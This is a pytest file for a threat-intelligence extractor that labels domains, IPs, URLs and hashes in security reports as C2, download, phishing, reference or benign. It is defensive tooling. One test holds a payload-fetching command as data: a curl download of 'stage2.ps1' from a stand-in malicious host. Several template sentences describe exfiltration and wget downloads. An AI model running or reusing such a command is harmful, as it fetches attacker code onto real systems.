"""The part that a value plays, as a reader of the same lines would tell it."""

from __future__ import annotations

import pytest

from extract_helpers import block, mentions, roles, stated
from samehand.extract.clean import prepared
from samehand.extract.layout import Layout
from samehand.extract.observables import extract
from samehand.read.document import Block, Document

#: A report in which values are written defanged, so that plain links are for reading.
DEFANGED = "\n\nIt used first[.]bad-one[.]com and second[.]bad-two[.]net.\n"


def only(text: str, value: str, **parts: object) -> str:
    """The role of a value that stands once in a text."""
    (role,) = roles(text, **parts)[value]
    return role


# ------------------------------------------------------------------------------------ references


def test_publisher_s_own_site_is_a_reference() -> None:
    text = "See blog.acme-labs.com or acme-labs.com for more. The C2 was evil-one.com then."
    url = "https://www.acme-labs.com/blog/post"
    assert only(text, "acme-labs.com", url=url) == "reference"
    assert only(text, "blog.acme-labs.com", url=url) == "reference"
    assert only(text, "evil-one.com", url=url) == "c2"


def test_publisher_s_own_site_written_defanged_is_meant() -> None:
    text = "The actor copied the C2 page to acme-labs[.]com last week."
    assert only(text, "acme-labs.com", url="https://www.acme-labs.com/x") == "c2"


@pytest.mark.parametrize(
    "line",
    [
        "as [we wrote](https://news-desk.org/one) before",
        "[1]: https://news-desk.org/one",
        '<a href="https://news-desk.org/one">before</a>',
        "https://news-desk.org/one[as we wrote] before",
        "see link:https://news-desk.org/one[before]",
        "[1] https://news-desk.org/one",
    ],
)
def test_target_of_a_link_is_a_reference(line: str) -> None:
    assert only(line + "\n", "https://news-desk.org/one") == "reference"


@pytest.mark.parametrize(
    "heading", ["# References", "## Further reading", "Sources:", "REFERENCES"]
)
def test_plain_link_below_a_heading_for_references(heading: str) -> None:
    text = f"The C2 was evil[.]com.\n\n{heading}\n\nhttps://news-desk.org/one\nnews-desk.net\n"
    assert only(text, "https://news-desk.org/one") == "reference"
    assert only(text, "news-desk.net") == "reference"


def test_plain_link_is_a_citation_where_values_are_defanged() -> None:
    assert only(
        "More at https://news-desk.org/one today." + DEFANGED, "https://news-desk.org/one"
    ) == ("reference")


def test_plain_link_below_a_heading_of_indicators_is_one() -> None:
    text = "# Indicators of compromise\n\nhttp://evil-one.com/gate.php\n"
    assert only(text, "http://evil-one.com/gate.php") == "indicator"


def test_site_that_reports_cite_is_a_reference_below_it_too() -> None:
    text = "Shown on www.virustotal.com and notvirustotal.com yesterday."
    assert only(text, "www.virustotal.com") == "reference"
    assert only(text, "notvirustotal.com") == "indicator"


def test_mail_address_for_contact_is_a_reference_and_a_sender_is_not() -> None:
    assert only("Questions? Contact us: intel@acme-labs.com", "intel@acme-labs.com") == "reference"
    assert only("The sender was billing@evil-one.com there.", "billing@evil-one.com") == "phishing"


def test_address_is_no_reference() -> None:
    assert only("# References\n\n198.51.100.9\n", "198.51.100.9") != "reference"


# ----------------------------------------------------------------------------------------- words

WORDS = [
    ("c2", "The C2 server {} answered."),
    ("c2", "It beacons to {} each minute."),
    ("c2", "Command and control: {}"),
    ("c2", "Data is exfiltrated to {} at night."),
    ("c2", "{} served as its command-and-control host."),
    ("download", "The payload is downloaded from {} first."),
    ("download", "A script runs wget on {} first."),
    ("phishing", "The phishing page at {} asks for a code."),
    ("phishing", "A credential harvesting site, {}, was used."),
    ("victim", "Victims include {} and others."),
    ("sinkhole", "It now points to the sinkhole {} of a vendor."),
    ("benign", "It calls the legitimate service {} first."),
    ("benign", "It checks connectivity with {} first."),
    ("indicator", "We saw {} in March."),
]


@pytest.mark.parametrize(("role", "line"), WORDS)
@pytest.mark.parametrize("value", ["evil-one.com", "198.18.7.9", "hxxp://evil-two[.]com/x"])
def test_words_around_a_value_tell_its_role(role: str, line: str, value: str) -> None:
    if value[0].isdigit():
        value = "185.220.101.9"
    (found,) = mentions(line.format(value))
    assert found.role == role


def test_nearest_word_before_a_value_tells_most() -> None:
    text = "It is downloaded from one-site.com and its C2 is two-site.com only."
    assert roles(text) == {"one-site.com": ["download"], "two-site.com": ["c2"]}


def test_words_of_another_sentence_say_nothing() -> None:
    assert only("The C2 is down. We saw evil-one.com in March.", "evil-one.com") == "indicator"


def test_legitimate_far_before_a_value_speaks_of_something_else() -> None:
    text = "It poses as a legitimate update of the browser and goes on to evil-one.com then."
    assert only(text, "evil-one.com") == "indicator"


def test_resolvers_and_private_addresses_are_benign() -> None:
    text = "The C2 answers at 8.8.8.8, 10.0.0.7, 127.0.0.1 and 185.220.101.9 alike."
    told = roles(text)
    assert [told[a] for a in ("8.8.8.8", "10.0.0.7", "127.0.0.1")] == [["benign"]] * 3
    assert told["185.220.101.9"] == ["c2"]


def test_hashes_are_malware_unless_called_clean() -> None:
    bad, good = "1a79a4d60de6718e8e5b326e338ae533", "2b79a4d60de6718e8e5b326e338ae534"
    assert roles(f"Dropper {bad} and the legitimate file {good} beside it.") == {
        bad: ["malware"],
        good: ["benign"],
    }
    assert roles(f"# Benign files\n\n{good}\n") == {good: ["benign"]}


@pytest.mark.parametrize("text", ["It uses T1059 of ATT&CK.", "It uses CVE-2021-44228.", "AS64496"])
def test_what_plays_no_part_has_no_role(text: str) -> None:
    (found,) = mentions(text)
    assert found.role == ""


# -------------------------------------------------------------------------------------- headings

HEADINGS = [
    ("c2", "# C2 servers"),
    ("c2", "Command and control domains:"),
    ("c2", "**C2**"),
    ("c2", "== Callback hosts"),
    ("download", "## Payload URLs"),
    ("phishing", "## Phishing domains"),
    ("sinkhole", "## Sinkholes"),
    ("victim", "## Compromised websites"),
    ("indicator", "## Network indicators"),
]


@pytest.mark.parametrize(("role", "heading"), HEADINGS)
def test_heading_tells_the_role_of_the_list_below_it(role: str, heading: str) -> None:
    told = roles(f"{heading}\n\n- evil-one[.]com\n- evil-two[.]com\n")
    assert told == {"evil-one.com": [role], "evil-two.com": [role]}


def test_heading_that_the_format_states_tells_the_role_of_the_table_below_it() -> None:
    text = "C2 infrastructure of spring\n\nevil-one[.]com\t2020\nevil-two[.]com\t2021\n"
    blocks = (
        block(text, "C2 infrastructure of spring", "heading"),
        block(text, "evil-one[.]com\t2020\nevil-two[.]com\t2021\n", "table"),
    )
    assert roles(text, blocks=blocks) == {"evil-one.com": ["c2"], "evil-two.com": ["c2"]}
    batches = {m.batch for m in mentions(text, blocks=blocks)}
    assert batches == {f"table@{text.index('evil-one')}"}


def test_word_on_the_line_comes_before_the_heading() -> None:
    text = "# C2 servers\n\n- evil-one[.]com\n- evil-two[.]com (sinkhole of a vendor)\n"
    assert roles(text) == {"evil-one.com": ["c2"], "evil-two.com": ["sinkhole"]}


def test_value_told_once_as_c2_is_c2_in_the_list() -> None:
    text = (
        "The C2 server was evil-one[.]com then.\n\n# Indicators\n\n"
        "- evil-one[.]com\n- evil-two[.]com\n"
    )
    assert roles(text) == {"evil-one.com": ["c2", "c2"], "evil-two.com": ["indicator"]}


def test_what_is_told_in_more_places_wins_in_the_others() -> None:
    text = (
        "The C2 server was evil-one[.]com then.\n\nIts C2 evil-one[.]com fell.\n\n"
        "It was downloaded from evil-one[.]com too.\n\n# Indicators\n\n- evil-one[.]com\n"
    )
    assert roles(text) == {"evil-one.com": ["c2", "c2", "download", "c2"]}


# ------------------------------------------------------------------------------- what is stated


def test_stated_role_wins_over_words_and_is_passed_on() -> None:
    text = "value,note\nevil-one.com,the C2 server\n\nWe saw evil-one.com in March.\n"
    told = roles(text, stated=(stated(text, "evil-one.com", "domain-name", "sinkhole"),))
    assert told == {"evil-one.com": ["sinkhole", "sinkhole"]}


def test_stated_type_without_a_role_leaves_the_role_to_the_words() -> None:
    text = "note,value\nthe C2 server,evil-one.com\n"
    assert roles(text, stated=(stated(text, "evil-one.com", "domain-name"),)) == {
        "evil-one.com": ["c2"]
    }


# --------------------------------------------------------------------------------------- batches


def test_values_of_one_list_have_one_batch_and_prose_has_none() -> None:
    text = "We saw evil-one.com in March.\n\n# Indicators\n\n- evil-two.com\n- evil-three.com\n"
    batches = {m.feature.value: m.batch for m in mentions(text)}
    assert batches["evil-one.com"] == ""
    assert batches["evil-two.com"] == batches["evil-three.com"] == f"list@{text.index('#')}"


def test_innermost_block_of_nested_ones() -> None:
    text = "0123456789" * 3
    blocks = (
        Block("table", 0, 25),
        Block("list", 5, 15),
        Block("quote", 6, 8),
        Block("code", 7, 9),
    )
    layout = Layout(Document("test", "text", text, blocks=blocks), prepared(text))

    def naive(place: int) -> str:
        around = [b for b in blocks if b.kind != "quote" and b.start <= place < b.end]
        return min(around, key=lambda b: b.end - b.start).kind if around else ""

    for place in range(len(text)):
        box = layout.box(place)
        assert (box.kind if box else "") == naive(place), place


@pytest.mark.parametrize(
    ("text", "value", "role"),
    [
        ("Connections to victim-portal[.]com and other[.]net.", "other.net", "indicator"),
        ("sinkhole-me[.]com evil-real[.]com", "evil-real.com", "indicator"),
        ("panel.badhost[.]top and ourhost[.]org", "ourhost.org", "indicator"),
        ("The C2 server, victim-portal[.]com and other[.]net.", "other.net", "c2"),
    ],
)
def test_words_inside_other_values_are_no_words(text: str, value: str, role: str) -> None:
    found = {m.feature.value: m.role for m in extract(Document("a.txt", "text", text))}
    assert found[value] == role


def test_legitimate_speaks_within_its_sentence() -> None:
    text = "Legitimate software such as 7-zip was used. The loader is " + "0408a819eb82dca5" * 2
    (mention,) = (m for m in extract(Document("a", "text", text)) if "md5" in m.feature.kind)
    assert mention.role == "malware"


def test_commands_in_a_block_of_code_hold_what_was_seen() -> None:
    code = "curl -o /tmp/x http://payload.badsite.com/stage2.ps1"
    text = f"C2: one[.]evil.com, two[.]evil.com\n```\n{code}\n```\n"
    start = text.index(code)
    document = Document("a.md", "markdown", text, blocks=(Block("code", start, start + len(code)),))
    found = {m.feature.value: m.role for m in extract(document)}
    assert found["http://payload.badsite.com/stage2.ps1"] != "reference"


@pytest.mark.parametrize(
    "value", ["127.0.0.1:9050", "192.168.1.5:443", "10.0.0.0/8", "fe80::1", "8.8.8.8:53"]
)
def test_addresses_that_belong_to_nobody_are_benign_in_every_form(value: str) -> None:
    assert {r for row in roles(f"The C2 server is {value} here.").values() for r in row} == {
        "benign"
    }
